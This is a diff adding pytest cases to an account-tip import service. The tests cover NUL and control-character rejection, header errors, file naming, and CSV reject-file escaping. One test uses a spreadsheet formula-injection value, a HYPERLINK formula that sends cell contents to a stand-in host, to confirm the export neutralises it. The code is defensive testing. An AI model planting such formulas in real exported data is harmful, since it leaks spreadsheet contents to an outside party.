@@ -37,12 +37,12 @@ from app.models import (
     TipAccount,
     referral_subjects,
 )
-from app.services import NotFound, audit, deconfliction, referrals, subjects
+from app.services import DomainError, NotFound, audit, deconfliction, referrals, subjects
 from app.services.access import get_visible_holder, visible_holders, visible_tips
 from app.services.audit import Actor
 from app.services.identifiers import IdentifierKind
 from app.services.tips import holders as holder_service
-from app.services.tips import reader, validation
+from app.services.tips import files, reader, validation
 from app.services.tips.importer import PAUSE_ENV, TipRejected, import_tip
 from tests.factories import make_referral
 
@@ -152,6 +152,98 @@ def test_the_reject_file_gives_back_columns_whose_names_differ_only_in_case(sess
     rows = list(csv.reader(io.StringIO(result.reject_csv)))
     assert rows[0] == ["platform", "account_id", "Note", "note", "note", "line", "field", "reason"]
     assert rows[1] == ["discord", "", "U2", "l2", "a2", "3", "account_id", "missing"]
+
+
+def test_a_binary_control_character_anywhere_in_a_file_refuses_it(session, world):
+    padding = [account(n, email=f"pad{n}@example.org") for n in range(1, 1500)]  # well past the sniffed head
+    data = tip(*padding, account(1500, username="nul\x00inside"))
+    assert len(data) > files.SNIFF_BYTES and data.index(b"\x00") > files.SNIFF_BYTES
+    before = snapshot(session)
+    with pytest.raises(DomainError, match=r"binary control character \(byte 0x00 on line 1501\)"):
+        run_import(session, world, data)
+    session.rollback()
+    assert snapshot(session) == before
+
+
+def test_a_json_escape_of_a_control_character_is_a_bad_value_and_the_other_rows_import(session, world):
+    lines = [
+        {"platform": "discord", "account_id": "a1", "phone": "+64 21 555 0101\u0000", "country_hint": "NZ"},
+        {"platform": "discord", "account_id": "a\u0000b", "ip_addresses": ["2001:db8::1", "2001:db8::\u001b2"]},
+        {"platform": "discord", "account_id": "a3", "email": "fine@example.org", "notes\u0000": "x"},
+    ]
+    data = "".join(json.dumps(line) + "\n" for line in lines).encode()  # json writes a NUL as \\u0000
+    assert b"\x00" not in data and b"\\u0000" in data  # the file itself is clean text
+    with pytest.raises(TipRejected) as refused:
+        run_import(session, world, data, "tip.jsonl")
+    assert [(e.line, e.field) for e in refused.value.errors] == [(1, "phone"), (2, "account_id"), (2, "ip_addresses")]
+    assert all(e.reason == reader.CONTROL_CHARACTER for e in refused.value.errors)
+    result = run_import(session, world, data, "tip.jsonl", skip_invalid=True)
+    session.commit()  # PostgreSQL refuses a NUL in text: nothing of it may reach the database
+    assert [a.account_id for a in session.scalars(select(TipAccount))] == ["a3"]
+    assert "\x00" not in result.reject_csv and "\\u0000" in result.reject_csv
+    assert result.ignored_columns == ["notes\\u0000"]
+
+
+def test_the_reject_file_keeps_formulas_from_running_and_gives_them_back(session, world):
+    data = tip(account(1, username="=HYPERLINK(\"http://x.example/?\"&A1)", email="broken"),
+               account(2, username="@SUM(1)", uploads_a="-2", phone="+64 21 555 0101"))
+    result = run_import(session, world, data, skip_invalid=True)
+    rows = list(csv.DictReader(io.StringIO(result.reject_csv)))
+    assert [r["username"] for r in rows] == ["'=HYPERLINK(\"http://x.example/?\"&A1)", "'@SUM(1)"]
+    assert rows[1]["uploads_a"] == "'-2" and rows[1]["phone"] == "'+64 21 555 0101"
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+    # Imported again as it is, the file gives the values back as they were, and the same problems.
+    again = reader.read(io.BytesIO(result.reject_csv.encode()), "csv", b"k")
+    assert [(e.line, e.field) for e in again.errors] == [(2, "email"), (3, "uploads_a")]
+    corrected = result.reject_csv.replace("broken", "fixed@example.org").replace("'-2", "2").encode()
+    fixed = reader.read(io.BytesIO(corrected), "csv", b"k")
+    assert not fixed.errors
+    assert [a.username for a in fixed.accounts] == ['=hyperlink("http://x.example/?"&a1)', "sum(1)"]  # a handle's @ goes
+    assert fixed.accounts[1].phone == "+64215550101"
+
+
+def test_a_reject_file_corrected_in_rounds_keeps_its_columns(session, world):
+    first = run_import(session, world, tip(account(1, email="broken"), account(2)), skip_invalid=True)
+    second = run_import(session, world, first.reject_csv.encode(), skip_invalid=True)
+    header = next(csv.reader(io.StringIO(second.reject_csv)))
+    assert header == [*reader.FIELDS, "line", "field", "reason"]  # this round's reasons, not stale ones
+    assert next(csv.DictReader(io.StringIO(second.reject_csv)))["line"] == "2"
+
+
+@pytest.mark.parametrize("ends", ["\n", "\r\n"])
+def test_blank_lines_before_the_header_are_no_header(monkeypatch, ends):
+    rows = [f"instagram,{n},,,,,NZ,,,,,," for n in range(1, 40)]
+    rows[20] = "instagram,21,,,,,NZ,,,,,-1,"
+    data = (ends * 2 + ends.join([",".join(reader.FIELDS), *rows]) + ends).encode()
+    single = reader.read(io.BytesIO(data), "csv", b"k")
+    assert [(e.line, e.field) for e in single.errors] == [(24, "first_seen")] and len(single.accounts) == 38
+    monkeypatch.setattr(validation, "PARALLEL_MIN_BYTES", 0)
+    parallel = validation.validate(data, "csv", b"k", workers=2, chunk_bytes=100)
+    assert [(e.line, e.field) for e in parallel.errors] == [(24, "first_seen")]
+    assert [tuple(a) for a in parallel.accounts] == [tuple(a) for a in single.accounts]
+    assert parallel.columns == list(reader.FIELDS)
+
+
+def test_the_refusal_names_what_is_wrong_with_the_header(session, world):
+    with pytest.raises(TipRejected, match=r"Nothing was imported: column named twice in the header \(email\)\."):
+        run_import(session, world, b"Email,email,platform,account_id\nx@example.org,,discord,a1\n")
+    with pytest.raises(TipRejected, match=r"missing column in the header \(account_id\)"):
+        run_import(session, world, b"\n\nplatform,username\ndiscord,someone\n")
+
+
+def test_utf16_text_without_a_byte_order_mark_is_named_as_such():
+    with pytest.raises(DomainError, match="UTF-16 text"):
+        files.check_content(tip(account(1)).decode().encode("utf-16-le"))
+    with pytest.raises(DomainError, match="UTF-16 text"):
+        files.check_content(tip(account(1)).decode().encode("utf-16-be"))
+
+
+def test_a_long_file_name_is_shortened_with_its_extension_kept():
+    name = "x" * 300 + ".csv"
+    stored = files.stored_name(name)
+    assert len(stored) == 255 and stored.endswith(".csv")
+    files.check_name(stored)  # the background import looks at the stored name again
+    assert files.stored_name("folder/tip.jsonl") == "tip.jsonl"
 
 
 def test_json_keys_no_field_takes_are_named_once_however_the_file_is_cut(monkeypatch):
@@ -957,7 +1049,12 @@ def test_import_tip_command_reports_rows_and_writes_the_reject_file(app, web_wor
     assert "Validating rows" in done.output and "2 new accounts" in done.output and "1 rejected" in done.output
     assert [r["line"] for r in csv.DictReader(rejects.open(encoding="utf-8"))] == ["3"]
     other = runner.invoke(args=["import-tip", str(path), "--operation", "LANTERN", "--as", "liaison.b@example.org"])
-    assert other.exit_code != 0 and "lead agency" in other.output
+    assert other.exit_code != 0 and "is not of LANTERN's lead agency (Charlie Customs)" in other.output
+    assert "No such operation" not in other.output  # the command has named it already
+    itself = runner.invoke(args=["import-tip", str(path), "--operation", "LANTERN", "--skip-invalid",
+                                 "--reject-file", str(path)])
+    assert itself.exit_code != 0 and "is the tip itself" in itself.output
+    assert path.read_bytes() == tip(account(1, email="cli@example.org"), account(2, email="broken"), account(3))
     missing = runner.invoke(args=["import-tip", str(path), "--operation", "NOPE"])
     assert missing.exit_code != 0 and "No operation" in missing.output
     with app.app_context():
